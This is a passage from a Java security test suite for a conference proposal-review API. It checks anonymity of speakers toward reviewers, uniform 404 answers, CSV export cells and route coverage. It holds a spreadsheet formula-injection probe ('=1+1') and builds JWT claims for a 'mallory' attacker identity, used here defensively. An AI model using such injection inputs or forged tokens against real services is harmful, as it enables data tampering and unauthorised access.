            this.slug = slug;
        }

        static Scenario create(String prefix) {
            Scenario s = new Scenario(prefix + "-" + UUID.randomUUID().toString().substring(0, 8));
            Stream.event(s.slug, 1);
            await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                    given().header("Authorization", organizer()).contentType("application/json").body(settings(2, "OPEN"))
                            .put("/api/events/" + s.slug + "/review-settings").then().statusCode(200));
            for (String reviewer : List.of("ra", "rb", "rc")) {
                s.reviewerIds.put(reviewer, given().header("Authorization", organizer()).contentType("application/json")
                        .body(s.reviewerBody(reviewer, List.of())).post("/api/events/" + s.slug + "/reviewers")
                        .then().statusCode(201).extract().path("id"));
            }
            Stream.proposal("submitted", s.p1, s.slug, 1, "SUBMITTED", FORMULA_TITLE, "ospo-experience", List.of(SPEAKERS.get(0)));
            Stream.proposal("submitted", s.p2, s.slug, 1, "SUBMITTED", "How Zhao Lihua runs compliance at 北方研究院",
                    "compliance-legal", List.of(SPEAKERS.get(1)));
            Stream.proposal("submitted", s.p3, s.slug, 1, "SUBMITTED", "Community building at scale", "ospo-experience",
                    List.of(SPEAKERS.get(2)));
            await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                    given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals")
                            .then().statusCode(200).body("size()", equalTo(3)));
            for (String[] pair : List.of(new String[] {s.p1, "ra"}, new String[] {s.p1, "rb"}, new String[] {s.p2, "rb"},
                    new String[] {s.p3, "rc"}, new String[] {s.p3, "ra"})) {
                s.assignmentIds.add(given().header("Authorization", organizer()).contentType("application/json")
                        .body(Map.of("proposalId", pair[0], "reviewerId", s.reviewerIds.get(pair[1])))
                        .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(201).extract().path("id"));
            }
            return s;
        }

        /** Every assigned reviewer scores their proposals; a comment that looks like a formula comes along. */
        void reviewEverything() {
            Map<String, List<String>> assigned = Map.of("ra", List.of(p1, p3), "rb", List.of(p1, p2), "rc", List.of(p3));
            assigned.forEach((reviewer, proposals) -> {
                for (String proposal : proposals) {
                    given().header("Authorization", token(reviewer)).contentType("application/json")
                            .body(review(proposal.equals(p1) ? 5 : 3, 4, "=1+1")).put("/api/me/reviews/" + ref(reviewer, proposal))
                            .then().statusCode(200);
                }
            });
        }

        String subject(String reviewer) {
            return reviewer + "-" + slug + "@reviewers.test";
        }

        /** The reference this reviewer knows the proposal by (proposal ids are not accepted on reviewer routes). */
        String ref(String reviewer, String proposal) {
            return Arc.container().instance(ReviewerRefs.class).get()
                    .of(UUID.fromString(reviewerIds.get(reviewer)), UUID.fromString(proposal)).toString();
        }

        String token(String reviewer) {
            return bearer(subject(reviewer), "reviewer:" + slug);
        }

        Map<String, Object> reviewerBody(String reviewer, List<String> conflicts) {
            return Map.of("subject", subject(reviewer), "name", "Reviewer " + reviewer, "email", subject(reviewer),
                    "affiliation", "Neutral University " + reviewer, "tracks", List.of(), "maxAssignments", 10,
                    "conflicts", conflicts);
        }

        /** What must never reach a reviewer: names (and their parts), emails, affiliations. */
        List<String> identities() {
            return List.of("Wang Xiaoming", "Xiaoming", "wang.xiaoming", "Secretive", "Zhao Lihua", "Lihua",
                    "北方研究院", "Qian Duoduo", "Duoduo", "Quiet Holdings", "speaker.test");
        }
    }

    static String bearer(String subject, String... groups) {
        return "Bearer " + TestInfrastructure.tokens().mint(subject, List.of(groups));
    }

    static String organizer() {
        return bearer("organizer@lectern.test", "organizer");
    }

    static Map<String, Object> settings(int reviewsPerProposal, String phase) {
        return Map.of("criteria", List.of(
                        Map.of("key", "relevance", "name", Map.of("en", "Relevance", "zh", "相关性"), "weight", 2, "min", 1, "max", 5),
                        Map.of("key", "clarity", "name", Map.of("en", "Clarity", "zh", "清晰度"), "weight", 1, "min", 1, "max", 5)),
                "reviewsPerProposal", reviewsPerProposal, "phase", phase);
    }

    static Map<String, Object> review(int relevance, int clarity, String comment) {
        return Map.of("scores", Map.of("relevance", relevance, "clarity", clarity), "comment", comment, "confidence", 3);
    }

    static String claims(String issuer, String audience, long iat, long exp, Long nbf) {
        return "{\"iss\":\"" + issuer + "\",\"aud\":\"" + audience + "\",\"sub\":\"mallory@example.com\","
                + "\"iat\":" + iat + ",\"exp\":" + exp + (nbf == null ? "" : ",\"nbf\":" + nbf)
                + ",\"groups\":[\"organizer\",\"reviewer\"]}";
    }

    /** Same status, media type and body, once each answer's own id is taken out of it (the instance path). */
    static void sameAnswer(Response forbidden, String forbiddenId, Response unknown, String unknownId) {
        assertEquals(404, unknown.statusCode(), unknown.asString());
        assertEquals(unknown.statusCode(), forbidden.statusCode(), forbidden.asString());
        assertEquals(unknown.contentType(), forbidden.contentType());
        assertEquals(unknown.asString().replace(unknownId, "{id}"), forbidden.asString().replace(forbiddenId, "{id}"));
    }

    static void assertNoIdentity(List<String> responses, List<String> identities) {
        for (String response : responses) {
            String lower = response.toLowerCase(Locale.ROOT);
            for (String identity : identities) {
                assertFalse(lower.contains(identity.toLowerCase(Locale.ROOT)),
                        "a response names '" + identity + "': " + response);
            }
        }
    }

    static List<String> concat(List<String> a, List<String> b) {
        List<String> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    /** The cells of a CSV (quoted cells with doubled quotes and commas inside), for the formula check. */
    static List<String> cells(String csv) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (c == '"') {
                quoted = !quoted;
                cell.append(c);
            } else if (!quoted && (c == ',' || c == '\n' || c == '\r')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }

    /** "GET /api/events/{event}/ranking" for every JAX-RS route of the service, from its compiled resource classes. */
    static Set<String> served() throws IOException {
        java.nio.file.Path classes = java.nio.file.Path.of("target", "classes");
        Set<String> operations = new TreeSet<>();
        try (java.util.stream.Stream<java.nio.file.Path> files = Files.walk(classes)) {
            for (java.nio.file.Path file : files.filter(f -> f.toString().endsWith(".class")).toList()) {
                String name = classes.relativize(file).toString().replace(java.io.File.separatorChar, '.')
                        .replaceAll("\\.class$", "");
                Class<?> type;
                try {
                    type = Class.forName(name, false, OwaspApiTop10Test.class.getClassLoader());
                } catch (ClassNotFoundException | LinkageError e) {
                    continue;
                }
                jakarta.ws.rs.Path root = type.getAnnotation(jakarta.ws.rs.Path.class);
                if (root == null) {
                    continue;
                }
                for (Method method : type.getDeclaredMethods()) {
                    String http = null;
                    for (Annotation annotation : method.getAnnotations()) {
                        HttpMethod h = annotation.annotationType().getAnnotation(HttpMethod.class);
                        if (h != null) {
                            http = h.value();
                        }
                    }
                    if (http == null) {
                        continue;
                    }
                    jakarta.ws.rs.Path sub = method.getAnnotation(jakarta.ws.rs.Path.class);
                    String path = ("/" + root.value() + "/" + (sub == null ? "" : sub.value())).replaceAll("/+", "/");
                    operations.add(http + " " + (path.length() > 1 && path.endsWith("/") ? path.substring(0, path.length() - 1) : path));
                }
            }
        }
        return operations;
    }
}
